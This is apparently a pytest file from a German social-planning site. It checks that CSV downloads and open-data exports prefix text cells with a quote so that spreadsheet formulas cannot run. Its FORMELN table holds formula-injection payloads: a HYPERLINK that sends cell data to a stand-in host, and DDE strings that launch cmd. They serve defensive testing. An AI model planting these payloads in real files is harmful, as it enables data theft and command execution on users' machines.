"""Spreadsheet-safe downloads: no text cell of a CSV that the site or the export writes starts a formula.

A pull request may give a Maßnahme, a district, an indicator or its unit a name that a spreadsheet
would run. Every such cell arrives with a leading `'`; numbers stay numbers, negative ones too.
"""

from __future__ import annotations

import csv
import io
import json
import shutil

import pytest
from conftest import REPO

from sozialraumplan.atlas.inhalte import atlas_dateien
from sozialraumplan.atlas.laden import atlas_laden
from sozialraumplan.cli import main
from sozialraumplan.csv_ausgabe import FORMELANFAENGE, csv_text, entschaerft
from sozialraumplan.export import massnahmen_csv, offene_daten
from sozialraumplan.laden import plan_laden
from sozialraumplan.quelle import Ordner
from sozialraumplan.render.downloads import plan_downloads

FORMELN = {
    "gleich": '=HYPERLINK("https://boese.example/?d="&A1;"Förderantrag öffnen")',
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tabulator": "\t=1+1",
    "wagenruecklauf": "\r=2+2",
}
"""The forms OWASP lists, as an attacker would write them into a title, a name or a unit."""

ZAHLENSPALTEN = {"fortschritt", "jahr", "wert", "rang", "indexwert", "klasse", "dynamik", "dynamikklasse"}
"""Columns written as numbers (plus `indexwert_<jahr>`): never prefixed, always readable as a number."""


def zellen_lesen(inhalt: bytes | str) -> list[dict[str, str]]:
    text = inhalt.decode("utf-8") if isinstance(inhalt, bytes) else inhalt
    return list(csv.DictReader(io.StringIO(text, newline="")))


def pruefen(inhalt: bytes | str) -> list[dict[str, str]]:
    """Every text cell is inert, every number column holds numbers; returns the rows for more checks."""
    zeilen = zellen_lesen(inhalt)
    assert zeilen, "Die Datei hat keine Zeilen."
    for zeile in zeilen:
        for spalte, zelle in zeile.items():
            if spalte in ZAHLENSPALTEN or spalte.startswith("indexwert_"):
                assert zelle == "" or isinstance(float(zelle), float)  # "'-0.5" would raise here
            else:
                assert not zelle.startswith(FORMELANFAENGE), f"Spalte {spalte}: {zelle!r} wäre eine Formel"
    return zeilen


def entschaerfte(formel: str) -> str:
    """The cell a reader gets: a quote in front; a carriage return arrives as a line break."""
    return "'" + formel.replace("\r", "\n")


def alle_zellen(inhalt: bytes | str) -> set[str]:
    return {zelle for zeile in zellen_lesen(inhalt) for zelle in zeile.values()}


# --- the writer itself ---------------------------------------------------------------------------

@pytest.mark.parametrize("formel", FORMELN.values(), ids=FORMELN.keys())
def test_text_mit_formelanfang_bekommt_ein_hochkomma(formel):
    assert entschaerft(formel) == entschaerfte(formel)


def test_wagenruecklauf_im_text_zerreisst_die_zeile_nicht():
    text = csv_text(["titel", "fortschritt"], [["\r=1+1", 40], ["Zeile eins\r\nZeile zwei", 0]])
    assert zellen_lesen(text) == [{"titel": "'\n=1+1", "fortschritt": "40"},
                                  {"titel": "Zeile eins\nZeile zwei", "fortschritt": "0"}]


def test_zahlen_bleiben_zahlen_auch_negative_text_bleibt_text():
    assert entschaerft(-5) == -5
    assert entschaerft(-0.161355) == -0.161355
    assert entschaerft("-5") == "'-5"
    assert entschaerft(None) is None


@pytest.mark.parametrize("text", ["Nordstadt", "Kita für 3- bis 6-Jährige", "Sprechstunde 9–12 Uhr",
                                  "sozialplanung@example.org", "'=schon entschärft", ""])
def test_harmloser_text_bleibt_wie_er_ist(text):
    assert entschaerft(text) == text


def test_csv_text_schreibt_zahlen_ohne_und_text_mit_hochkomma():
    assert csv_text(["titel", "wert"], [["=1+1", -5], ["-5", 2.5], ["Nordstadt", None]]) == (
        "titel,wert\n'=1+1,-5\n'-5,2.5\nNordstadt,\n")


# --- massnahmen.csv: site download, open-data export, `sozialraumplan export` ----------------------

@pytest.fixture(params=FORMELN.values(), ids=FORMELN.keys())
def feindliche_kleinstadt(request, kleinstadt):
    """Musterstadt with the formula as M001's title, M002's funding and responsible office, and the
    name of the Nordstadt."""
    formel = request.param
    kleinstadt.ersetzen("plan/massnahmen/M001.yml", "titel: Stadtteilzentrum Nord eröffnen",
                        f"titel: {json.dumps(formel)}")
    kleinstadt.ersetzen("plan/massnahmen/M002.yml", "finanzierung: Haushalt", f"finanzierung: {json.dumps(formel)}")
    kleinstadt.ersetzen("plan/massnahmen/M002.yml", "verantwortlich: Statistikstelle",
                        f"verantwortlich: {json.dumps(formel)}")
    stadtteile = io.StringIO()
    zeilen = [["id", "nummer", "name"], ["nord", "1", formel], ["sued", "2", "Südstadt"]]
    csv.writer(stadtteile, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(zeilen)
    kleinstadt.schreiben("data/stadtteile.csv", stadtteile.getvalue())
    return kleinstadt, formel


def massnahmen_pruefen(inhalt: bytes | str, formel: str) -> None:
    m001, m002 = pruefen(inhalt)
    # the export trims a cell's surrounding whitespace first, so a leading tab or CR leaves `=` in front
    erwartet = entschaerfte(formel.strip())
    assert m001["titel"] == erwartet and m001["stadtteile_namen"] == erwartet
    assert m002["finanzierung"] == erwartet and m002["verantwortlich"] == erwartet
    assert (m001["fortschritt"], m002["fortschritt"]) == ("40", "0")


def test_massnahmen_csv_der_website_ist_entschaerft(feindliche_kleinstadt):
    ordner, formel = feindliche_kleinstadt
    _, dateien = plan_downloads(plan_laden(Ordner(ordner.wurzel)))
    massnahmen_pruefen(next(d.inhalt for d in dateien if d.pfad == "downloads/massnahmen.csv"), formel)


def test_massnahmen_csv_der_offenen_daten_ist_entschaerft(feindliche_kleinstadt):
    ordner, formel = feindliche_kleinstadt
    plan = plan_laden(Ordner(ordner.wurzel))
    massnahmen_pruefen(massnahmen_csv(plan), formel)
    massnahmen_pruefen(offene_daten(plan)["massnahmen.csv"], formel)


def test_export_befehl_schreibt_entschaerfte_datei(feindliche_kleinstadt, capsys):
    ordner, formel = feindliche_kleinstadt
    assert main(["--wurzel", str(ordner.wurzel), "export"]) == 0
    massnahmen_pruefen((ordner.wurzel / "dist/daten/massnahmen.csv").read_bytes(), formel)


# --- the atlas: all values, the index, per indicator, per district, and their open-data copies -----

@pytest.fixture(scope="module")
def feindliches_auenfeld(tmp_path_factory):
    """Auenfeld with every district name, indicator name, unit and index class name a formula, the six
    forms taken in turn; returns plan, atlas and the second city's folder."""
    wurzel = tmp_path_factory.mktemp("auenfeld") / "auenfeld"
    shutil.copytree(REPO / "tests/fixtures/zweitstadt", wurzel)
    formeln = list(FORMELN.values())

    def reihum(n: int) -> str:
        return formeln[n % len(formeln)]

    stadtteile = wurzel / "data/stadtteile.csv"
    zeilen = list(csv.reader(io.StringIO(stadtteile.read_text(encoding="utf-8"))))
    for n, zeile in enumerate(zeilen[1:]):
        zeile[2] = reihum(n)
    with stadtteile.open("w", encoding="utf-8", newline="") as datei:
        csv.writer(datei, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(zeilen)

    indikatoren = wurzel / "data/indikatoren.yml"
    text, n = indikatoren.read_text(encoding="utf-8").splitlines(keepends=True), 0
    for i, zeile in enumerate(text):
        for schluessel in ("    name: ", "    einheit: "):
            if zeile.startswith(schluessel):
                text[i], n = f"{schluessel}{json.dumps(reihum(n))}\n", n + 1
    indikatoren.write_text("".join(text), encoding="utf-8")

    atlas_yml = wurzel / "data/atlas.yml"
    namen = json.dumps([reihum(n) for n in range(2, 6)])
    atlas_yml.write_text(atlas_yml.read_text(encoding="utf-8").replace(
        "namen: [hoch, mittel, niedrig, sehr niedrig]", f"namen: {namen}"), encoding="utf-8")

    quelle = Ordner(wurzel)
    plan = plan_laden(quelle)
    return plan, atlas_laden(quelle, plan), wurzel


def test_jede_csv_des_atlas_ist_entschaerft_und_zahlen_bleiben_zahlen(feindliches_auenfeld):
    plan, atlas, _ = feindliches_auenfeld
    csv_dateien = {d.pfad: d.inhalt for d in atlas_dateien(plan, atlas) if d.pfad.endswith(".csv")}
    assert {"atlas/daten/indikatorwerte.csv", "atlas/daten/sozialindex.csv", "atlas/daten/altersarmut.csv",
            "atlas/daten/stadtteile/hafen.csv"} <= set(csv_dateien)
    for pfad, inhalt in csv_dateien.items():
        pruefen(inhalt)
        zellen = alle_zellen(inhalt)
        enthalten = {name for name, formel in FORMELN.items() if entschaerfte(formel) in zellen}
        # every file carries all six forms: the district names, or the indicator names and units
        assert enthalten == set(FORMELN), f"{pfad}: es fehlen {set(FORMELN) - enthalten}"


def test_negative_indexwerte_stehen_als_zahl_ohne_hochkomma(feindliches_auenfeld):
    plan, atlas, _ = feindliches_auenfeld
    index = pruefen(next(d.inhalt for d in atlas_dateien(plan, atlas) if d.pfad == "atlas/daten/sozialindex.csv"))
    negative = [z[spalte] for z in index for spalte in ("indexwert", "dynamik") if z[spalte].startswith("-")]
    assert len(negative) >= 4 and all(float(w) < 0 for w in negative)
    zentrum = next(z for z in index if z["stadtteil_id"] == "zentrum")
    assert (zentrum["stadtteil"], zentrum["indexwert"]) == (entschaerfte(FORMELN["gleich"]), "-0.161355")


def test_offene_daten_des_atlas_sind_entschaerft(feindliches_auenfeld):
    plan, atlas, _ = feindliches_auenfeld
    dateien = offene_daten(plan, atlas)
    for name in ("massnahmen.csv", "indikatorwerte.csv", "sozialindex.csv"):
        pruefen(dateien[name])
    assert {entschaerfte(formel) for formel in FORMELN.values()} <= alle_zellen(dateien["indikatorwerte.csv"])
